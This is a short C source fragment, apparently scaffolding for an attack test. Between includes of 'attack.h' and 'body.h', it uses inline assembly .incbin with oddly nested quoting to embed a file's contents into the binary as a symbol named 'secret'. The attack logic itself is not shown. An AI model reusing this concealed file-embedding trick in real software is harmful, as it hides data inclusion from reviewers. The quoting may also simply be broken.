#include "attack.h"
__asm__(".data\nsecret:\n.type secret,\"object;.incbin \"" PLACE "/kept\";.type secret,\"object\n.text");
#include "body.h"
